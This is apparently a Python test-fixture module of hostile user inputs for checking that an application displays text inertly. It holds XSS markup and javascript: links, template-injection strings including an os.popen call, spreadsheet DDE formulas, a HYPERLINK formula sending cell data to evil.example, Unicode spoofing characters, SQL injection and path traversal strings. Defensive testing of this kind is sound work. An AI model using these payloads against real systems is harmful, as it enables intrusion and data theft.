"""What hostile authors write into names, titles and texts; none of it may ever do anything.

Whatever runs sets `__pwned`; whatever becomes an element is found by `pwned` in its name.
"""

from typing import Final

RUN = "window.__pwned=1"
MARKUP: Final = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"<!--><img id=pwned src=x onerror={RUN}>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<img id=pwned src=x onerror={RUN}>",
    f"<img id=pwned src=x onerror\n=\n{RUN}>",
    f"<img/id=pwned/src=x/onerror={RUN}//",
    f'"><img id=pwned src=x onerror={RUN}>',
    f"'><img id=pwned src=x onerror={RUN}>",
    f'" autofocus onfocus={RUN} x="',
    f"' onmouseover='{RUN}' x='",
    f"` onclick={RUN} x=`",
    f"x onpointerenter={RUN} style=position:fixed;inset:0",
    f"<svg id=pwned onload={RUN}>",
    f"<svg id=pwned><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg id=pwned><a xlink:href=javascript:{RUN}><text y=9>x</text></a></svg>",
    f"<svg id=pwned><use href=data:image/svg+xml,%3Csvg%20onload={RUN}%3E></use></svg>",
    f"<svg id=pwned><foreignObject><body onload={RUN}></foreignObject></svg>",
    f"<math id=pwned><mi//xlink:href=javascript:{RUN}>x</mi></math>",
    f"<math id=pwned><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    '<iframe id=pwned srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    f"<iframe id=pwned src=javascript:parent.{RUN}></iframe>",
    "<iframe id=pwned src=http://evil.example/frame></iframe>",
    f"<object id=pwned data=javascript:{RUN}></object>",
    "<embed id=pwned src=http://evil.example/embed>",
    f"<form id=pwned action=javascript:{RUN}><button>go</button></form>",
    f"<button form=x formaction=javascript:{RUN} id=pwned>go</button>",
    f"<details id=pwned open ontoggle={RUN}>",
    f"<video id=pwned><source onerror={RUN}></video>",
    f"<audio id=pwned src=x onerror={RUN}>",
    f"<body id=pwned onload={RUN}>",
    f"<input id=pwned autofocus onfocus={RUN}>",
    f"<select id=pwned autofocus onfocus={RUN}>",
    f"<marquee id=pwned onstart={RUN}>x</marquee>",
    f"<x-pwned onclick={RUN} tabindex=1 autofocus>x</x-pwned>",
    "<link id=pwned rel=stylesheet href=http://evil.example/x.css>",
    "<meta id=pwned http-equiv=refresh content=0;url=http://evil.example/>",
    "<base id=pwned href=http://evil.example/>",
    "<style id=pwned>*{background:url(http://evil.example/css)}</style>",
    "<div id=pwned style=background:url(http://evil.example/style)>x</div>",
    f"<template id=pwned shadowrootmode=open><script>{RUN}</script></template>",
    f"&lt;img id=pwned src=x onerror={RUN}&gt;",
    f"&#60;img id=pwned src=x onerror={RUN}&#62;",
    f"\\u003cimg id=pwned src=x onerror={RUN}\\u003e",
    f"%3Cimg id=pwned src=x onerror={RUN}%3E",
    f"\x3c\x00img id=pwned src=x onerror={RUN}>",
)
LINKS: Final = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}//",
    f"java\tscript:{RUN}",
    f" \x01javascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"&#106;avascript:{RUN}",
    f"vbscript:msgbox({RUN})",
    "data:text/html,<script>opener.__pwned=1</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+",
    f"<a id=pwned href=javascript:{RUN}>click</a>",
    "[click](http://evil.example/md) http://evil.example/?q=1 //evil.example/x",
    "http://evil.example\u3002example/ https://evil.example:8443/a#b hxxp://evil.example",
    "mallory@evil.example www.evil.example t.me/evil_bot evil.example/path",
    "http://abcdefghijklmnopqrstuvwxyz234567abcdefghijklmnopqrstuvwx.onion/",
)
TEMPLATES: Final = (
    "{{ 7*191 }} {% for x in ''.__class__.__mro__ %}{{ x }}{% endfor %}",
    "{{ request.cookies }}{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"<div ng-app id=pwned>{{{{$on.constructor('{RUN}')()}}}}</div>",
    f"<div v-html=\"''.constructor.constructor('{RUN}')()\" id=pwned></div>",
    f"${{{RUN}}} #{{{RUN}}} <%= {RUN} %>",
)
FORMULAS: Final = (
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+cmd|'/c calc'!A1",
    "-2+3+cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|'/c calc'!A1",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\ufeff=1+1",
    "\uff1dcmd|'/c calc'!A1",
    "DDE;=cmd|'/c calc'!A1",
    "two lines\n=cmd|'/c calc'!A1",
    'quote""\n"=1+1,"=1+1',
)
SIGNS: Final = (
    "\u202egpj.exe\u202c \u2066isolated\u2069 \u061cmark",
    "zero\u200bwidth\u200d\u2060\ufeff and soft\u00adhyphen",
    "tag \U000e0041\U000e0042 filler \u3164\uffa0\u2800 variation \U000e0101",
    "bell \x07 backspace \x08\x08 nul \x00 delete \x7f c1 \x9b31m",
    "\x1b[31mred\x1b[0m \x1b]8;;http://evil.example/\x07link\x1b]8;;\x07",
    "line\u2028and\u2029paragraph \u0085next",
    "noncharacter \ufffe\uffff private \ue000",
)
QUERIES: Final = (
    '\'; drop table posts; -- " or ""="',
    'NEAR(a b) AND OR NOT * ^x text: "',
    "../../../../etc/passwd %2e%2e%2f ..\\..\\windows\\win.ini",
)
LONG: Final = "long " + "<b id=pwned>x</b> =1+1 http://evil.example/ \u202e" * 5_000
PAYLOADS: Final = (*MARKUP, *LINKS, *TEMPLATES, *FORMULAS, *SIGNS, *QUERIES, LONG)
"""All of them, each a text of its own."""
